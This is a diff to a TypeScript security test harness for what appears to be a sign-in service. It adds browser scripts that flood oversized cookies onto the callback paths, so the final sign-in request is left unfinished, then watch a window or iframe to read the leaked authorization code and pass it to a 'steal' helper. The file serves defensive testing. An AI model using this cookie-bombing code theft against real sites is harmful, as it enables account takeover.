@@ -1,8 +1,9 @@
 /**
  * What a page of the origin server can try against our own pages, which share its origin. Each is a script of that
  * page, run in a real Chromium whose person is signed in. It has `path`, the page that confirms what a thief with one
- * factor waits for; `here`, the same at the host of the page; `wait(ms)`; `steal(text)`, which sends off what was read of
- * our pages; and `send(text)`, which sends the form of such a page.
+ * factor waits for; `here`, the same at the host of the page; `ofThief`, where a sign-in of the thief's browser goes on;
+ * `wait(ms)`; `steal(text)`, which sends off what was read of our pages; and `send(text)`, which sends the form of such a
+ * page.
  */
 import type { Received } from '../origin/echo-origin.ts'
 import type { Attack } from './attack.ts'
@@ -40,6 +41,32 @@ Object.assign(form, { method: 'post', action: path, target: '${target}' })
 document.body.append(form)
 form.submit()
 await wait(700)`
+
+/**
+ * The last step of that sign-in is too large to be read, so that its code is left; looks for it in the window `opened`, or
+ * in a frame, for as long as one may look.
+ */
+const tooLarge = (opened: string) => `
+for (const path of ['/.torhaus/callback', '/.torhaus/handed-over'])
+  for (let number = 0; number < 60; number++) document.cookie = 'large' + number + '=' + 'x'.repeat(4000) + '; path=' + path
+await wait(100)
+${opened}
+for (let times = 0; times < 200; times++) {
+  try { if (await steal(opened.location.href)) break } catch {}
+  await wait(5)
+}`
+
+/** Both kinds of page: with one host the OP's code is left, with two that of the hand-over. */
+export const CODE_ATTACKS: readonly PageAttack[] = [
+  { name: 'a window is watched whose last request is too large', script: tooLarge('const opened = open(ofThief)') },
+  {
+    name: 'a frame is watched whose last request is too large',
+    script: tooLarge(`const framed = document.createElement('iframe')
+framed.src = ofThief
+document.body.append(framed)
+const opened = framed.contentWindow`),
+  },
+]
 
 const worker = (script: string) => `
 await navigator.serviceWorker.register('${script}', { scope: '/' })
@@ -127,4 +154,4 @@ export const inBrowser =
     },
   })
 
-export const pageAttacks: readonly Attack[] = PAGE_ATTACKS.map(inBrowser('browser'))
+export const pageAttacks: readonly Attack[] = [...PAGE_ATTACKS, ...CODE_ATTACKS].map(inBrowser('browser'))
